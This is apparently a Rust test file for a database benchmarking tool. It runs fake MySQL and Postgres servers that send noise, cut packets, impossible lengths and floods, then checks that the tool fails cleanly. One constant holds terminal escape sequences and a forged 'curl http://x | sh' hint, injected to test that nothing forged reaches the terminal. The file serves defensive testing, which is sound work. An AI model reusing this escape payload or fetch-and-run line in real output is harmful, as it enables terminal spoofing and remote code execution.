//! Servers that lie, babble, stop in the middle of a message or claim lengths that no message has: an error with a
//! sentence, and nothing of theirs acts on the terminal.

use crate::AttackContext;
use crate::outcome::Outcome;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;
use tenbin_tests::tenbin_through;

/// What acts on a terminal, or looks like a line of somebody else's.
const ACTING: &str = "\u{1b}]0;taken\u{7}\u{1b}[2J\r\u{202e}\u{9b}1mverdict  VALID\n  hint      curl http://x | sh";

/// Sends the same words to everybody who comes, each after something was heard, and then the last for ever or nothing
/// more.
pub struct Liar {
    port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

/// What a liar says.
#[derive(Clone)]
struct Lines {
    /// At once.
    greeting: Vec<u8>,
    /// Each after something was heard.
    answers: Vec<Vec<u8>>,
    /// Then: closes the connection, says nothing more, or this without end.
    end: LiarEnd,
}

#[derive(Clone)]
enum LiarEnd {
    Closes,
    IsSilent,
    GoesOn(Vec<u8>),
}

impl Liar {
    fn start(greeting: Vec<u8>, answers: Vec<Vec<u8>>, closes: bool) -> Liar {
        Liar::of(Lines { greeting, answers, end: if closes { LiarEnd::Closes } else { LiarEnd::IsSilent } })
    }

    /// One that goes on without end after its last answer.
    pub fn endless(greeting: Vec<u8>, answers: Vec<Vec<u8>>, flood: Vec<u8>) -> Liar {
        Liar::of(Lines { greeting, answers, end: LiarEnd::GoesOn(flood) })
    }

    /// Its port on this machine.
    pub fn port(&self) -> u16 {
        self.port
    }

    fn of(lines: Lines) -> Liar {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let stop = Arc::new(AtomicBool::new(false));
        let ended = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut talks = Vec::new();
            while !ended.load(Ordering::Relaxed) {
                let Ok((stream, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(5));
                    continue;
                };
                let (lines, ended) = (lines.clone(), ended.clone());
                talks.push(std::thread::spawn(move || talk(stream, &lines, &ended)));
            }
            talks.into_iter().for_each(|t| t.join().unwrap());
        });
        Liar { port, stop, thread: Some(thread) }
    }
}

fn talk(mut stream: TcpStream, lines: &Lines, ended: &AtomicBool) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    if stream.write_all(&lines.greeting).is_err() {
        return;
    }
    let (mut next, mut heard) = (0, [0; 65536]);
    while !ended.load(Ordering::Relaxed) {
        if let (true, LiarEnd::GoesOn(flood)) = (next == lines.answers.len(), &lines.end) {
            if stream.write_all(flood).is_err() {
                return;
            }
            continue;
        }
        match stream.read(&mut heard) {
            Ok(0) => return,
            Ok(_) => {
                let Some(answer) = lines.answers.get(next) else {
                    if matches!(lines.end, LiarEnd::Closes) {
                        return;
                    }
                    continue;
                };
                next += 1;
                if stream.write_all(answer).is_err() {
                    return;
                }
            }
            Err(_) => {}
        }
    }
}

impl Drop for Liar {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        let _ = self.thread.take().map(std::thread::JoinHandle::join);
    }
}

/// Drives one command of ours against it, in little memory.
fn against(world: &mut AttackContext, scheme: &str, lie: &str, liar: &Liar) -> String {
    let dsn = format!("{scheme}://u@127.0.0.1:{}/d", liar.port);
    let runs = world.folder();
    let runs = runs.display().to_string();
    let commands: [&[&str]; 4] = [
        &["doctor", &dsn],
        &["bench", "oltp_point_select", &dsn, "--time", "1", "--runs", &runs],
        &["load", "oltp_point_select", &dsn, "--table-size", "10"],
        &["check", &dsn],
    ];
    let command = *world.one_of(&commands);
    // A server that is mute is left after a while; the storm does not wait for it.
    let limited = "ulimit -v 3000000; exec timeout --signal=INT --kill-after=60 20 \"$0\" \"$@\"";
    let outcome = Outcome::of(tenbin_through("bash", &["-c", limited]).args(command));
    assert!(matches!(outcome.code, Some(1 | 2 | 3 | 124 | 130)), "{lie}: {command:?} {outcome:?}");
    let forged =
        |text: &str| text.lines().any(|l| l.starts_with("verdict  VALID") || l.starts_with("  hint      curl"));
    assert!(
        !forged(&outcome.out) && !forged(&outcome.err),
        "{lie}: a line of the server's stands as ours: {outcome:?}"
    );
    format!("{lie}: {} → exit {}", command[0], outcome.code.unwrap_or(-1))
}

fn noise(world: &mut AttackContext, most: u64) -> Vec<u8> {
    (0..world.between(0, most)).map(|_| world.between(0, 255) as u8).collect()
}

/// A message of MySQL's protocol.
pub fn mysql_packet(number: u8, body: &[u8]) -> Vec<u8> {
    let length = (body.len() as u32).to_le_bytes();
    [&length[..3], &[number], body].concat()
}

/// The greeting of a server: protocol 10, a version, then thread, challenge, capabilities (no TLS), character set, status and a
/// plugin.
pub fn mysql_greeting(version: &str) -> Vec<u8> {
    let mut body = [&[10], version.as_bytes(), &[0, 7, 0, 0, 0]].concat();
    body.extend_from_slice(b"12345678\0");
    body.extend_from_slice(&[0xff, 0xf7, 33, 2, 0, 0xff, 0x81, 21]);
    body.extend_from_slice(&[0; 10]);
    body.extend_from_slice(b"123456789012\0mysql_native_password\0");
    mysql_packet(0, &body)
}

pub fn mysql(world: &mut AttackContext) -> String {
    let (packet, greeting) = (mysql_packet, mysql_greeting);
    let error =
        |number: u8, text: &str| packet(number, &[&[0xff, 0x15, 0x04, b'#'][..], b"28000", text.as_bytes()].concat());
    let ok = |number: u8| packet(number, &[0, 0, 0, 2, 0, 0, 0]);
    let lie = *world.one_of(&[
        "noise",
        "escapes before login",
        "escapes after login",
        "cut",
        "claims",
        "columns",
        "mute",
        "drips",
    ]);
    let (first, answers, closes) = match lie {
        "noise" => (noise(world, 200), vec![noise(world, 5000), noise(world, 5000)], true),
        "escapes before login" => (error(0, ACTING), vec![], true),
        "escapes after login" => (greeting(ACTING.trim_end()), vec![error(2, ACTING)], true),
        "cut" => {
            let mut whole = greeting("8.0.31");
            let at = world.between(0, whole.len() as u64 - 1) as usize;
            whole.truncate(at);
            (whole, vec![], world.between(0, 1) == 0)
        }
        "claims" => {
            // A packet of 16 MiB less one promises that another follows; a length of 2⁶⁰ promises what no server has.
            let claim = [&[0xff, 0xff, 0xff, 1][..], &[0xfe, 0, 0, 0, 0, 0, 0, 0, 16][..]].concat();
            (greeting("8.0.31"), vec![ok(2), claim], false)
        }
        "columns" => (greeting("8.0.31"), vec![ok(2), packet(1, &[0xfc, 0xff, 0xff])], true),
        "mute" => (greeting("8.0.31"), vec![], false),
        _ => (greeting("8.0.31"), (0..200).map(|_| vec![world.between(0, 255) as u8]).collect(), false),
    };
    let liar = Liar::start(first, answers, closes);
    against(world, "mysql", lie, &liar)
}

pub fn postgres(world: &mut AttackContext) -> String {
    let message = |kind: u8, body: &[u8]| [&[kind], &(body.len() as u32 + 4).to_be_bytes()[..], body].concat();
    let error = |text: &str| {
        let field = |code: u8| [&[code], text.as_bytes(), &[0]].concat();
        message(b'E', &[b"SFATAL\0C28000\0".to_vec(), field(b'M'), field(b'D'), field(b'H'), vec![0]].concat())
    };
    let no_tls = b"N".to_vec();
    let welcome = [message(b'R', &[0, 0, 0, 0]), message(b'Z', b"I")].concat();
    let lie = *world.one_of(&[
        "noise",
        "error with a hint",
        "injected behind TLS",
        "claims",
        "parameters",
        "mute",
        "empty rows",
    ]);
    let (answers, closes) = match lie {
        "noise" => (vec![no_tls, noise(world, 3000), noise(world, 3000)], true),
        "error with a hint" => (vec![no_tls, error(ACTING)], true),
        "injected behind TLS" => (vec![[b"S".to_vec(), welcome].concat()], true),
        "claims" => (vec![no_tls, welcome, [b"D".to_vec(), 0x3fff_ffff_u32.to_be_bytes().to_vec()].concat()], false),
        "parameters" => {
            let status = [b"server_version\0".to_vec(), ACTING.bytes().collect(), vec![0]].concat();
            (vec![no_tls, [message(b'S', &status), welcome].concat(), error(ACTING)], true)
        }
        "mute" => (vec![], false),
        _ => {
            let rows = message(b'D', &[0, 0]).repeat(200_000);
            (vec![no_tls, welcome, [message(b'T', &[0, 0]), rows].concat()], false)
        }
    };
    let liar = Liar::start(Vec::new(), answers, closes);
    against(world, "postgres", lie, &liar)
}
